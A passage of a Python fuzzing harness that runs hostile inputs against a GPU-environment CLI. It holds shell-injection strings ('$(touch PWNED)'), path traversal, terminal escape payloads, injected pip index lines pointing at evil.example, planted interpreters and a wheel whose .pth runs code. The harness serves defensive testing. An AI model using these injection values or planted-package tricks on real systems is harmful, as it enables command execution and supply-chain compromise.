"""Run a table of hostile and careless inputs against every command, each in its own subprocess with a
timeout, and count tracebacks, hangs, broken JSON envelopes, side effects and unsafe output.

Surfaces: input files (pastes, saved environments, requirements), matrix data folders, arguments, environment
variables, standard input; and, from the second round, the install journal (a stale journal naming a bystander's
process group, a planted interpreter, tampered steps, malformed journals), fleet folders (unbounded
``fleet.json``, links planted at every name the writers use, a Slurm stand-in printing escape sequences), the
overlay (planted without the user's key, a line break in an index URL), data values (index URLs holding line
breaks, plain http, credentials) and the terminal (escape sequences in pastes, node files and arguments; mirror
credentials). A side effect is a PWNED file, a replaced device, a killed bystander, a planted program that ran,
or a file written through a planted link; unsafe output is a raw control character or a credential printed,
or a line injected into a lock.

    python scripts/hostile_inputs.py [--before PATH] [--timeout 30] [--jobs 2] [--only SUBSTRING] [-v]

``--before PATH`` runs the package found at PATH (a checkout of an older version, put first on
PYTHONPATH) instead of the installed one, for before/after figures. Nothing here needs a GPU or the
network. Exit status: 0 when there were no tracebacks, hangs or side effects, else 1.
"""
from __future__ import annotations

import argparse
import concurrent.futures as cf
import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
import tempfile
import time
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

ENVELOPE_KEYS = {"schema_version", "command", "status", "exit_code", "data", "errors"}
HOSTILE_WORDS = [
    "torch[/]", "[bold]torch", "[/]", "[red]x[/red]", "$(touch PWNED)", "`touch PWNED`", "a\\'\"; touch PWNED; #",
    "line1\nline2", "torch\x00", "☃", "Tesla T4 ☃", "", " ", "-", "--", "nan", "inf", "-1", "1e309", "9" * 5000,
    "x" * 100_000, "torch==" + "9" * 5000, "torch>=2;python_version>'3'", "torch @ file:///dev/zero",
    "../../etc/passwd", "%s%n", "{}", "[]", "null",
]
LIBPATHS = ["", ":", "::", ".", "./lib", "rel/dir", "a\\'\"; touch PWNED; #", "$(touch PWNED)", "`touch PWNED`",
            "/nonexistent:/tmp", "/tmp/[/]", "line\nbreak", "☃/lib", "x" * 10_000]


@dataclass
class Case:
    name: str
    argv: list[str]
    env: dict[str, str] = field(default_factory=dict)
    stdin: bytes | None = None
    json: bool = False
    device: str | None = None  # a device node the command must leave as it is
    alive: int | None = None  # the pid of a bystander (a process of ours) that must survive
    absent: list[str] = field(default_factory=list)  # markers a planted program would leave
    untouched: dict[str, str] = field(default_factory=dict)  # files (link targets) that must keep their text
    inert: bool = False  # the output must hold no raw control character and no credential
    forbid: list[str] = field(default_factory=list)  # text that must not reach stdout or the files below
    files: list[str] = field(default_factory=list)  # files the command writes, checked for ``forbid``


@dataclass
class Outcome:
    case: Case
    code: int | None
    seconds: float
    traceback: bool = False
    hang: bool = False
    bad_envelope: str | None = None
    side_effect: str | None = None
    unsafe: str | None = None
    tail: str = ""


def build_files(root: Path) -> dict[str, str]:
    """Hostile files on disk; name -> path."""
    files: dict[str, str] = {}

    def put(name: str, data: bytes | str) -> None:
        p = root / name
        p.write_bytes(data.encode() if isinstance(data, str) else data)
        files[name] = str(p)

    fifo = root / "fifo"
    os.mkfifo(fifo)
    files["fifo"] = str(fifo)
    files["dev_zero"] = "/dev/zero"
    files["dev_null"] = "/dev/null"
    # a private copy of /dev/full (same device numbers): a version that replaces the device node with a
    # regular file (the landed bug) damages only this copy, never the machine's /dev/full
    try:
        os.mknod(root / "dev_full", 0o666 | stat.S_IFCHR, os.makedev(1, 7))
        files["dev_full"] = str(root / "dev_full")
    except (OSError, AttributeError):
        pass  # not root: the cases writing to a device are left out
    (root / "loop_a").symlink_to(root / "loop_b")
    (root / "loop_b").symlink_to(root / "loop_a")
    files["symlink_loop"] = str(root / "loop_a")
    (root / "a_dir").mkdir()
    files["directory"] = str(root / "a_dir")
    files["missing"] = str(root / "no-such-file")
    files["empty_path"] = ""
    put("binary", bytes(range(256)) * 64)
    put("huge", b"a" * (5 * 1024 * 1024))
    put("empty", b"")
    put("nested_json", "[" * 1500 + "]" * 1500)
    put("nested_obj", '{"a":' * 1500 + "1" + "}" * 1500)
    put("bigint_json", '{"schema_version": ' + "9" * 5000 + "}")
    put("bigint_top", "9" * 5000)
    put("not_utf8", b"\xff\xfe\xfa nvidia-smi \xff\n" * 50)
    put("sv_999", '{"schema_version": 999}')
    put("sv_neg", '{"schema_version": -1}')
    put("sv_str", '{"schema_version": "1"}')
    put("sv_obj", '{"schema_version": {}}')
    put("sv_bool", '{"schema_version": true}')
    put("empty_obj", "{}")
    put("json_list", "[1, 2, 3]")
    put("json_null", "null")
    put("cc_abc", '{"schema_version": 1, "gpus": [{"index": 0, "name": "Tesla T4", "compute_capability": "abc"}]}')
    put("cc_num", '{"schema_version": 1, "gpus": [{"index": 0, "name": "Tesla T4", "compute_capability": 7.5}]}')
    put("driver_bad", '{"schema_version": 1, "driver": {"version": "abc[/]", "status": "ok"}}')
    put("driver_status_bad", '{"schema_version": 1, "driver": {"version": "535.1", "status": "pwned"}}')
    put("gpus_not_list", '{"schema_version": 1, "gpus": {"a": 1}}')
    put("packages_bad", '{"schema_version": 1, "packages": {"torch": 5}}')
    put("python_bad", '{"schema_version": 1, "python": {"version": "three"}}')
    put("markup_gpu_env", '{"schema_version": 1, "gpus": [{"index": 0, "name": "[/][bold]x[/bold]", '
                          '"compute_capability": "7.5"}], "driver": {"version": "535.104.05", "status": "ok"}}')
    put("envelope_other", '{"schema_version": 1, "command": "solve", "data": {"solution": {}}}')
    put("envelope_bad_env", '{"schema_version": 1, "command": "detect", "data": {"environment": [1]}}')
    smi_row = "| " + "0" * 4000 + " |\n"
    put("smi_long_4k", "+-----+\n| NVIDIA-SMI 535.104.05   Driver Version: 535.104.05   CUDA Version: 12.2 |\n" + smi_row)
    put("smi_markup", "NVIDIA-SMI 535.104.05   Driver Version: 535.104.05   CUDA Version: 12.2\n"
                      "GPU 0: [/]Tesla T4[bold] (UUID: GPU-[/])\n")
    put("smi_list_markup", "GPU 0: [/] (UUID: GPU-x)\nGPU 1: Tesla T4 [red] (UUID: GPU-y)\n")
    put("smi_bigint", "GPU 0: Tesla T4 (UUID: GPU-1)\nDriver Version: " + "9" * 5000 + "\n")
    put("freeze_hostile", "torch==[/]\ntorch==2.3.0+cu121\nnvidia-cudnn-cu12==" + "9" * 5000 + "\n[bold]x==1\n")
    put("collect_env_hostile", "PyTorch version: [/]\nIs debug build: False\nCUDA used to build PyTorch: abc\n"
                               "GPU models and configuration: GPU 0: [/]\nNvidia driver version: 535.[/]\n"
                               "cuDNN version: " + "9" * 5000 + "\n")
    put("ldconfig_hostile", "\t" + "libcudart.so.12 (libc6,x86-64) => ./[/]libcudart.so.12\n" * 100)
    put("nvcc_hostile", "Cuda compilation tools, release 99999999999999999999.1, V" + "9" * 5000 + "\n")
    put("req_fragment", "--index-url https://download.pytorch.org/whl/cu121#frag\ntorch==2.3.0\n")
    put("req_fragment2", "--extra-index-url https://download.pytorch.org/whl/#\ntorch==2.3.0\n")
    put("req_markup", "torch[/]==2.3.0\n")
    put("req_bigint", "torch==" + "9" * 5000 + "\n")
    put("req_nested", "-r other.txt\n")
    put("req_bad_quote", "--index-url 'unterminated\ntorch\n")
    put("req_unicode", "torch==2.3.0 # ☃\ntörch==1\n")
    put("req_http", "--index-url http://example.invalid/simple\ntorch\n")
    put("req_url", "torch @ https://example.invalid/x.whl#sha256=[/]\n")
    return files


def cases(files: dict[str, str], tmp: Path) -> list[Case]:
    out: list[Case] = []
    cmd_json = [("detect", True), ("doctor", True), ("solve", True), ("lock", True), ("check", True), ("env", True)]
    # 1. hostile input files wherever a command reads one
    readers = [("detect", "--from"), ("detect", "--env"), ("doctor", "--from"), ("doctor", "--env"),
               ("solve", "--env"), ("lock", "--env"), ("check", "--env"), ("check", "-r"), ("env", "--env")]
    for name, path in files.items():
        if name == "dev_full":
            continue
        for cmd, opt in readers:
            if opt == "-r" and name.startswith(("sv_", "cc_")):
                continue
            # lock: the solved pins only, so that no case asks the real index (a complete lock resolves there)
            extra = {"solve": ["torch"], "lock": ["torch", "--pins-only"]}.get(cmd, [])
            target = ["--driver", "535.104.05", "--gpu", "7.5"] if opt == "-r" else []
            out.append(Case(f"{cmd} {opt} {name}", [cmd, *extra, opt, path, *target]))
            if name in ("fifo", "nested_json", "cc_abc", "binary", "markup_gpu_env", "smi_markup"):
                out.append(Case(f"{cmd} {opt} {name} --json", [cmd, *extra, opt, path, *target, "--json"], json=True))
    # 2. matrix data folders with one hostile file each
    for label in ("fifo", "nested_json", "bigint_json", "binary", "directory", "symlink_loop", "empty"):
        d = tmp / f"data_{label}"
        shutil.copytree(_data_dir(), d)
        victim = d / "gpus.json"
        victim.unlink()
        src = files[label]
        if label == "fifo":
            os.mkfifo(victim)
        elif label == "directory":
            victim.mkdir()
        elif label == "symlink_loop":
            victim.symlink_to(d / "gpus.json")
        else:
            shutil.copyfile(src, victim)
        out.append(Case(f"matrix validate data:{label}", ["matrix", "validate", str(d)]))
        out.append(Case(f"matrix validate data:{label} --json", ["matrix", "validate", str(d), "--json"], json=True))
        out.append(Case(f"doctor --data data:{label}", ["doctor", "--data", str(d)]))
        out.append(Case(f"solve --data data:{label}", ["solve", "torch", "--driver", "535.104.05", "--data", str(d)]))
    # 3. hostile words as requirements, GPU names, drivers, shells, outputs, timeouts, frameworks, pythons
    for w in HOSTILE_WORDS:
        short = repr(w[:24])
        out.append(Case(f"solve req {short}", ["solve", w, "--driver", "535.104.05", "--gpu", "7.5"]))
        out.append(Case(f"solve req {short} --json", ["solve", w, "--driver", "535.104.05", "--json"],
                        json=w != "--"))  # after "--", "--json" is a requirement, not the option
        out.append(Case(f"solve --gpu {short}", ["solve", "torch", "--gpu", w]))
        out.append(Case(f"solve --driver {short}", ["solve", "torch", "--driver", w]))
        out.append(Case(f"env --shell {short}", ["env", "--shell", w]))
        out.append(Case(f"detect --timeout {short}", ["detect", "--timeout", w]))
        out.append(Case(f"lock -o {short}", ["lock", "torch", "--pins-only", "--driver", "535.104.05", "-o", w]))
        out.append(Case(f"verify --framework {short} --json", ["verify", "--framework", w, "--json"], json=True))
        out.append(Case(f"matrix show gpu {short}", ["matrix", "show", "gpu", w]))
    for w in ("nan", "inf", "-inf", "-1", "0", "1e309"):
        out.append(Case(f"fix --timeout {w}", ["fix", "--dry-run", "--timeout", w, "--json"], json=True))
        out.append(Case(f"verify --timeout {w}", ["verify", "--timeout", w]))
    for p in ("/nonexistent", files["directory"], files["fifo"], "/dev/null", files["binary"], ""):
        out.append(Case(f"verify --python {p[-20:]!r}", ["verify", "--python", p, "--json"], json=True))
        out.append(Case(f"detect --python {p[-20:]!r}", ["detect", "--python", p]))
        out.append(Case(f"fix --dry-run --python {p[-20:]!r}", ["fix", "--dry-run", "--python", p]))
    for kind in ("dev_full", "directory", "fifo", "dev_null", "empty_path", "symlink_loop"):
        if kind not in files:
            continue
        dev = files[kind] if kind == "dev_full" else None
        out.append(Case(f"lock -o {kind}", ["lock", "torch", "--pins-only", "--driver", "535.104.05", "-o", files[kind]],
                        device=dev))
        out.append(Case(f"lock -o {kind} --json", ["lock", "torch", "--pins-only", "--driver", "535.104.05", "-o", files[kind],
                                                   "--json"], json=True, device=dev))
    # 4. typer usage errors with --json
    for argv in (["solve", "--json", "--bogus"], ["detect", "--json", "--timeout", "abc"], ["--json"],
                 ["matrix", "show", "--json", "--x"], ["fix", "--json", "--framework"], ["lock", "--json", "--format"],
                 ["nosuchcommand", "--json"], ["doctor", "--json", "--env"], ["check", "--json", "-r"]):
        out.append(Case("usage " + " ".join(argv), argv, json=True))
    for cmd, _ in cmd_json:
        out.append(Case(f"{cmd} --driver '' --json", [cmd, "--driver", "", "--json"] if cmd not in ("detect", "doctor", "env")
                        else [cmd, "--json", "--bogus"], json=True))
    # 5. hostile environment variables
    for value in LIBPATHS:
        for cmd in (["detect"], ["doctor"], ["env"], ["env", "--shell", "fish"], ["env", "--shell", "powershell"],
                    ["detect", "--json"]):
            out.append(Case(f"LD_LIBRARY_PATH={value[:20]!r} {' '.join(cmd)}", cmd, env={"LD_LIBRARY_PATH": value},
                            json="--json" in cmd))
    for var, value in (("PIP_INDEX_URL", "http://example.invalid/simple"), ("PIP_EXTRA_INDEX_URL", "http://x/[/]"),
                       ("UV_INDEX_URL", "http://example.invalid/simple"), ("CUDA_VISIBLE_DEVICES", "[/]"),
                       ("CUDA_HOME", "rel/cuda"), ("CUDA_HOME", "[/]"), ("CONDA_PREFIX", "[/]"),
                       ("LC_ALL", "C"), ("PYTHONIOENCODING", "ascii"), ("COLUMNS", "-5"), ("COLUMNS", "abc"),
                       ("XDG_CACHE_HOME", files["dev_null"]), ("XDG_CACHE_HOME", files["fifo"]),
                       ("HOME", "/nonexistent"), ("TERM", "dumb\x1b[31m")):
        for cmd in (["detect"], ["doctor"], ["solve", "torch", "--driver", "535.104.05"], ["fix", "--dry-run"],
                    ["solve", "☃[/]"], ["doctor", "--json"]):
            out.append(Case(f"{var}={value[:20]!r} {' '.join(cmd)}", cmd, env={var: value}, json="--json" in cmd))
    # 6. stdin
    for label, data in (("binary", bytes(range(256)) * 64), ("markup", b"GPU 0: [/] (UUID: x)\n"),
                        ("empty", b""), ("huge", b"x" * (5 * 1024 * 1024)), ("not_utf8", b"\xff" * 100)):
        out.append(Case(f"detect --from - ({label})", ["detect", "--from", "-"], stdin=data))
        out.append(Case(f"doctor --from - ({label}) --json", ["doctor", "--from", "-", "--json"], stdin=data, json=True))
    return out


# --- the second round's surfaces: the journal, fleet folders, the overlay, data values, the terminal ------------

REPO = Path(__file__).resolve().parent.parent
NODE = REPO / "tests" / "data" / "environments" / "h100_driver580.json"
ESC = "\x1b[2J\x1b]8;;https://evil.example/\x07docs\x1b]8;;\x07\u202e"
INJECT = "\n--trusted-host evil.example\n--extra-index-url http://evil.example/simple"
FORBID_LOCK = ["\n--trusted-host", "\n--extra-index-url http://evil"]
TARGET = ["--driver", "550.54.15", "--gpu", "7.5", "--python", "3.11"]


def _folder(root: Path, name: str) -> Path:
    path = root / name
    path.mkdir(parents=True)
    return path


def _victim(root: Path, name: str) -> tuple[str, dict[str, str]]:
    path = root / f"victim-{name}"
    path.write_text("precious")
    return str(path), {str(path): "precious"}


def surface_cases(root: Path) -> list[Case]:
    """The second round's hostile inputs (module docstring)."""
    root = _folder(root, "surfaces")
    return (_journal_cases(root) + _fleet_cases(root) + _overlay_cases(root) + _data_cases(root)
            + _terminal_cases(root) + _wait_cases(root) + _driver_words_cases(root) + _extension_words_cases(root)
            + _own_words_cases(root)
            + _mirror_cases(root) + _child_output_cases(root) + _consent_cases(root) + _undo_cases(root)
            + _gate_cases(root) + _lock_gate_cases(root)
            + _preflight_cases(root) + _extension_cases(root) + _installed_extension_cases(root)
            + _extension_arch_cases(root) + _extension_floor_cases(root) + _library_choice_cases(root)
            + _command_words_cases(root) + _release_file_cases(root))


def _command_words_cases(root: Path) -> list[Case]:
    """Issue 41: commands pointed at ``--python`` from their records, never by searching the words: a library
    folder whose name holds "pip install" and "cudamatrix fix" (with escapes) keeps its name in the fixes, and an
    interpreter path with quotes, ``$(...)`` and those words is one shell word in every command."""
    folder = f"/srv/libs pip install 2 cudamatrix fix{ESC}/lib"
    saved = root / "env-command-words.json"
    doc = {"origin": "file", "driver": {"version": "535.104.05", "status": "ok"},
           "context": {"env": {"LD_LIBRARY_PATH": folder}},
           "libraries": [{"name": "cudnn", "soname": "libcudnn.so.9", "path": f"{folder}/libcudnn.so.9",
                          "version": "9.0.0", "origin": "LD_LIBRARY_PATH", "loaded_first": True}],
           "library_loads": [{"framework": "torch", "soname": "libcudnn.so.9", "path": f"{folder}/libcudnn.so.9",
                              "rule": "LD_LIBRARY_PATH", "found_as": f"{folder}/libcudnn.so.9",
                              "expected": "/v/nvidia/cudnn/lib/libcudnn.so.9", "expected_rule": "DT_RUNPATH"}],
           "packages": {"torch": "2.5.1+cu121"}, "frameworks": [{"name": "torch", "version": "2.5.1+cu121"}]}
    saved.write_text(json.dumps(doc))
    python = root / "it's $(touch X) pip install" / "bin" / "python"
    python.parent.mkdir(parents=True, exist_ok=True)
    if not python.exists():
        python.symlink_to(sys.executable)
    env = {"CUDAMATRIX_DETECT_ENV": str(saved)}
    forbid = ["-m pip install 2", "cudamatrix fix --python"]  # the folder's words rewritten
    return [Case("command words: doctor --python", ["doctor", "--python", str(python)], env=env, inert=True,
                 forbid=forbid),
            Case("command words: doctor --python --json", ["doctor", "--python", str(python), "--json"], env=env,
                 json=True, forbid=forbid)]


def _release_file_cases(root: Path) -> list[Case]:
    """Issue 39: flash-attn's release file solved with torch: versions no rule fills cleanly (empty, wildcard,
    huge, with a slash or a newline, by URL, behind a marker), a target the rule cannot vouch for, and doctor's
    extension findings planned by ``fix --dry-run`` on a saved environment: exit 2 or 3, never a traceback."""
    base = ["solve", "torch==2.4.0", "--driver", "560.35.03", "--gpu", "H100", "--python", "3.11"]
    out = []
    for label, req in (("bare", "flash-attn"), ("wildcard", "flash-attn==2.*"), ("huge", "flash-attn==" + "9" * 5000),
                       ("local", "flash-attn==2.8.3+cu12"), ("slash", "flash-attn==2.8.3/../x"),
                       ("newline", "flash-attn==2.8.3\n"), ("url", "flash-attn @ file:///nonexistent/x.whl"),
                       ("marker", "flash-attn==2.8.3; python_version < '3'"), ("arbitrary", "flash-attn===abc"),
                       ("extras", "flash-attn[x]==2.8.3")):
        out.append(Case(f"release-file {label}", [*base, req]))
        out.append(Case(f"release-file {label} --json", [*base, req, "--json"], json=True))
    out.append(Case("release-file aarch64", ["solve", "torch==2.4.0", "flash-attn==2.8.3", "--driver", "560.35.03",
                                             "--platform", "linux_aarch64", "--python", "3.11", "--json"], json=True))
    out.append(Case("release-file cpu", ["solve", "torch==2.4.0+cpu", "flash-attn==2.8.3", "--python", "3.11"]))
    out.append(Case("release-file alone", ["solve", "flash-attn==2.8.3", "--driver", "560.35.03", "--json"], json=True))
    return out


def _bare_python(root: Path) -> str:
    venv = root / "bare"
    if not venv.exists():
        subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True, timeout=300)
    return str(venv / "bin" / "python")


def _journal(state: Path, python: str, doc: dict | str | bytes | None = None) -> Path:
    """A journal left for ``python`` under the state home ``state`` (where fix looks for it)."""
    import hashlib

    folder = state / "cudamatrix" / "journal" / hashlib.sha256(os.path.abspath(python).encode()).hexdigest()[:16]
    folder.mkdir(parents=True, mode=0o700)
    for p in (state / "cudamatrix", state / "cudamatrix" / "journal", folder):
        p.chmod(0o700)
    path = folder / "journal.json"
    if doc is not None:
        path.write_bytes(doc if isinstance(doc, bytes) else (doc if isinstance(doc, str) else json.dumps(doc)).encode())
        path.chmod(0o600)
    return path


def _journal_doc(python: str, **changes) -> dict:
    doc = {"python": python, "pid": 4194000, "before": [], "steps_done": 0, "child_pgid": None, "wheels": {},
           "stash": [], "unsaved": [], "plan": {"python": python, "steps": [
               {"kind": "uninstall", "reason": "drop x", "argv": [python, "-m", "pip", "uninstall", "-y", "x"]}]}}
    doc.update(changes)
    return doc


def _planted(root: Path, name: str) -> tuple[str, str]:
    """A script that leaves a marker when it runs (and answers like an empty interpreter); (script, marker)."""
    marker = root / f"ran-{name}"
    script = root / f"planted-{name}"
    script.write_text(f"#!/bin/sh\necho ran > {marker}\necho '[]'\n")
    script.chmod(0o755)
    return str(script), str(marker)


def _gate_cases(root: Path) -> list[Case]:
    """Issue 42's gates: a compute capability's major alone (7.0/7.2/7.5 differ) in every command that takes --gpu;
    a jax lock whose plugin is CUDA 12, checked for R580; a fleet mixing a GPU node and one without a GPU."""
    out = []
    req = _folder(root, "gates") / "requirements.txt"
    req.write_text("jax==0.12.0.1\njaxlib==0.12.0.1\njax-cuda12-plugin==0.12.0.1\njax-cuda12-pjrt==0.12.0.1\n")
    for gpu in ("7", "sm_7", "compute_9", "12", "0", "07", "7.", ".5", "sm_", "1" * 4000):
        for cmd in (["solve", "torch"], ["check", "-r", str(req)], ["lock", "torch", "--pins-only"],
                    ["fix", "torch", "--dry-run"]):
            out.append(Case(f"gates {cmd[0]} --gpu {gpu[:12]!r} --json", [*cmd, "--gpu", gpu, "--json"], json=True))
    out.append(Case("gates check jax cuda12 lock on R580", ["check", "-r", str(req), "--driver", "580.65.06", "--gpu",
                                                            "Tesla T4", "--python", "3.12", "--json"], json=True))
    nodes = _folder(root, "gates-fleet")
    for name, driver, gpus in (("t4", {"version": "535.104.05", "cuda_version": None, "status": "ok"},
                                [{"index": 0, "name": "Tesla T4", "compute_capability": "7.5"}]),
                               ("cpu", {"version": None, "cuda_version": None, "status": "absent"}, [])):
        (nodes / f"{name}.json").write_text(json.dumps({"origin": "file", "driver": driver, "gpus": gpus,
                                                        "python": {"version": "3.12.3", "platform": "linux_x86_64"},
                                                        "packages": {}, "frameworks": []}))
    out.append(Case("gates solve fleet t4 + cpu --json", ["solve", "torch", "--env", str(nodes), "--json"], json=True))
    return out


def _journal_cases(root: Path) -> list[Case]:
    py = _bare_python(root)
    out: list[Case] = []
    # --yes: every change asks first (issue 42), so without it a usable journal would stop at the question and
    # the checks behind it (the interpreter, the plan's programs, the installer's group) would go unprobed
    actions = (["fix", "--rollback", "--yes"], ["fix", "--resume", "--no-verify", "--yes"], ["fix", "--dry-run"],
               ["fix", "--yes", "--no-verify"])

    def add(label: str, make, **extra) -> None:
        """Four cases (one per action), each with its own state home; ``make(tag)`` -> (journal, markers)."""
        for action in actions:
            tag = f"{label.replace(' ', '-')}-{action[1][2:]}"
            state = _folder(root, f"state-{tag}")
            doc, absent = make(tag) if callable(make) else (make, [])
            path = _journal(state, py, doc)
            if "link" in extra:
                path.symlink_to(extra["link"])
            kw = {k: v for k, v in extra.items() if k != "link"}
            out.append(Case(f"journal {label}: {' '.join(action)}", [*action, "--python", py, "--json"],
                            env={"XDG_STATE_HOME": str(state)}, json=True, absent=absent, **kw))

    for i, action in enumerate(actions):  # a bystander holding the installer's old group number
        bystander = subprocess.Popen(["sleep", "3600"], start_new_session=True)
        BYSTANDERS[bystander.pid] = bystander
        state = _folder(root, f"state-bystander-{i}")
        _journal(state, py, _journal_doc(py, child_pgid=bystander.pid))
        out.append(Case(f"journal bystander group: {' '.join(action)}", [*action, "--python", py, "--json"],
                        env={"XDG_STATE_HOME": str(state)}, json=True, alive=bystander.pid))

    def interpreter(tag: str):
        script, marker = _planted(root, tag)
        return _journal_doc(script), [marker]

    def program(tag: str):
        script, marker = _planted(root, tag)
        return _journal_doc(py, plan={"python": py, "steps": [
            {"kind": "install", "reason": "x", "argv": [script, "-m", "pip", "install", "x==1"]}]}), [marker]

    def code(tag: str):
        marker = str(root / f"ran-{tag}")
        return _journal_doc(py, plan={"python": py, "steps": [
            {"kind": "install", "reason": "x", "argv": [py, "-c", f"open({marker!r}, 'w')"]}]}), [marker]

    add("names a planted interpreter", interpreter)
    add("step runs a planted program", program)
    add("step runs code", code)
    add("step injects a line", _journal_doc(py, plan={"python": py, "steps": [
        {"kind": "install", "reason": "x", "argv": [py, "-m", "pip", "install", "--index-url",
                                                    "https://i.example/s" + INJECT, "x==1"]}]}))
    for label, doc in (("nested", "[" * 100_000 + "]" * 100_000), ("not JSON", "{not json"),
                       ("wrong shape", {"python": py, "before": "all", "plan": []}), ("a list", [1, 2]),
                       ("bad before", _journal_doc(py, before=[{"name": 5}])), ("bigint", '{"pid": ' + "9" * 5000 + "}"),
                       ("pid group 1", _journal_doc(py, child_pgid=-1)), ("binary", bytes(range(256)))):
        add(label, doc)
    victim, untouched = _victim(root, "journal")
    add("a symlink", None, link=victim, untouched=untouched)
    return out


def _consent_cases(root: Path) -> list[Case]:
    """Issue 42: every change asks and every dry run is dry, whichever flag starts it. A killed fix's journal whose
    rollback would reinstall a distribution: a dry run, and a run without a terminal and without --yes (stdin is a
    pipe here), leave the journal as it was (before: the rollback ran, and a resume dry run marked it resumed).
    A venv without a framework has nothing to fix; verify there is a finding, not "no GPU"."""
    py = _bare_python(root)
    out: list[Case] = []
    for action in (["fix", "--rollback", "--dry-run"], ["fix", "--rollback"], ["fix", "--resume", "--dry-run"],
                   ["fix", "--resume"]):
        tag = "-".join(a[2:] for a in action[1:])
        state = _folder(root, f"state-consent-{tag}")
        # a dry run: a rollback with nothing to put back would close (remove) the journal; else it has a step
        before = [] if "--dry-run" in action else [{"name": "consent-gone", "version": "1.0"}]
        path = _journal(state, py, _journal_doc(py, before=before))
        out.append(Case(f"consent: {' '.join(action)} without --yes", [*action, "--no-verify", "--python", py, "--json"],
                        env={"XDG_STATE_HOME": str(state)}, json=True, untouched={str(path): path.read_text()}))
    state = _folder(root, "state-consent-none")
    out.append(Case("consent: fix with no framework installed", ["fix", "--python", py, "--json"],
                    env={"XDG_STATE_HOME": str(state)}, json=True))
    out.append(Case("consent: verify with no framework installed", ["verify", "--python", py, "--json"], json=True))
    return out


def _kept(state: Path, python: str, doc: dict) -> Path:
    """The journal of a completed change of ``python`` (``<folder>.last``, what ``fix --undo`` reads)."""
    path = _journal(state, python)
    last = path.parent.with_name(path.parent.name + ".last")
    path.parent.rename(last)
    (last / "journal.json").write_text(json.dumps(doc))
    (last / "journal.json").chmod(0o600)
    return last


def _undo_cases(root: Path) -> list[Case]:
    """Round three (issue 42): ``fix --undo`` on a damaged kept journal, names that are not packages, saved wheels
    nobody signed (one with a .pth that would run), and a second run while another holds the interpreter's lock."""
    py = _bare_python(root)
    out: list[Case] = []
    docs = {"after a string": {"after": "x"}, "after of numbers": {"after": [1]},
            "after without versions": {"after": [{"name": "a"}]}, "after a map": {"after": {"a": "1"}},
            "before -r": {"before": [{"name": "-r", "version": "1.0"}]},
            "before --pre": {"before": [{"name": "--pre", "version": "1.0"}]},
            "version an option": {"before": [{"name": "a", "version": "1.0 --index-url=http://evil.example/s"}]},
            "hashes not hashes": {"sha256": {"a.whl": "zz"}}}
    for label, changes in docs.items():
        for action in (["--dry-run"], ["--yes", "--no-verify"]):
            state = _folder(root, f"state-undo-{label.replace(' ', '-')}-{action[0][2:]}")
            _kept(state, py, _journal_doc(py, **{"state": "completed", "after": [], **changes}))
            out.append(Case(f"undo journal {label}: fix --undo {action[0]}", ["fix", "--undo", *action, "--python",
                                                                               py, "--json"],
                            env={"XDG_STATE_HOME": str(state)}, json=True))
    marker = str(root / "ran-undo-pth")
    wheels = root / "undo-evil"
    wheels.mkdir()
    evil = wheels / "mut_a-1.0-py3-none-any.whl"
    with zipfile.ZipFile(evil, "w") as zf:  # a planted wheel whose .pth would run at every interpreter start
        zf.writestr("zz.pth", f"import os; open({marker!r}, 'w')\n")
        zf.writestr("mut_a-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: mut-a\nVersion: 1.0\n")
        zf.writestr("mut_a-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        zf.writestr("mut_a-1.0.dist-info/RECORD", "")
    for action in (["--dry-run"], ["--yes", "--no-verify"]):
        state = _folder(root, f"state-undo-unsigned-{action[0][2:]}")
        last = _kept(state, py, _journal_doc(py, state="completed", after=[], before=[
            {"name": "mut-a", "version": "1.0"}], sha256={evil.name: "0" * 64}))
        (last / "wheels").mkdir(mode=0o700)
        shutil.copy(evil, last / "wheels" / evil.name)
        out.append(Case(f"undo journal unsigned, a planted wheel: fix --undo {action[0]}",
                        ["fix", "--undo", *action, "--python", py, "--json"], env={"XDG_STATE_HOME": str(state)},
                        json=True, absent=[marker]))
    state = _folder(root, "state-undo-locked")
    holder = subprocess.Popen([sys.executable, "-c", "import sys, time\nfrom cudamatrix.install import journal\n"
                               "held = journal.hold(sys.argv[1])\ntime.sleep(3600)\n", py],
                              env={**os.environ, "XDG_STATE_HOME": str(state)}, start_new_session=True)
    BYSTANDERS[holder.pid] = holder
    import hashlib

    lock = state / "cudamatrix" / "journal" / (hashlib.sha256(os.path.abspath(py).encode()).hexdigest()[:16] + ".lock")
    deadline = time.monotonic() + 60
    while (not lock.exists() or not lock.stat().st_size) and holder.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    for action in (["fix", "--undo", "--yes"], ["fix", "--rollback", "--yes"], ["fix", "--yes", "--no-verify"]):
        out.append(Case(f"locked by another run: {' '.join(action)}", [*action, "--python", py, "--json"],
                        env={"XDG_STATE_HOME": str(state)}, json=True, alive=holder.pid,
                        forbid=['"exit_code": 0']))
    return out


def _fleet_folder(root: Path, name: str, index: str | bytes | None = None, node: str | None = None) -> Path:
    folder = _folder(root, name)
    (folder / "a.json").write_text(node if node is not None else NODE.read_text())
    if isinstance(index, bytes):
        (folder / "fleet.json").write_bytes(index)
    elif index is not None:
        (folder / "fleet.json").write_text(index)
    return folder


def _fleet_cases(root: Path) -> list[Case]:
    out: list[Case] = []
    indexes = {"nested list": "[" * 200_000 + "]" * 200_000,
               "nested object": '{"nodes": [{"file": "a.json", "x": ' + "[" * 5000 + "]" * 5000 + "}]}",
               "bigint": '{"nodes": ' + "9" * 5000 + "}", "outside": '{"nodes": [{"file": "../a.json"}]}',
               "not JSON": "{", "binary": bytes(range(256)) * 4}
    for label, index in [*indexes.items(), ("huge sparse", None), ("fifo", None)]:
        folder = _fleet_folder(root, f"fleet-{label.replace(' ', '-')}", index)
        if label == "huge sparse":
            with open(folder / "fleet.json", "wb") as fh:
                fh.truncate(3_500_000_000)
        elif label == "fifo":
            os.mkfifo(folder / "fleet.json")
        for argv in (["solve", "torch"], ["doctor"], ["check"], ["lock", "torch", "--per-class", "-o",
                                                                    str(root / f"locks-{label}")]):
            out.append(Case(f"fleet.json {label}: {argv[0]}", [*argv, "--env", str(folder), "--json"], json=True))
    # links planted at every name the writers use
    folder = _fleet_folder(root, "fleet-ok", json.dumps({"nodes": [{"file": "a.json"}]}))
    victim, untouched = _victim(root, "locks")
    locks = _folder(root, "locks-planted")
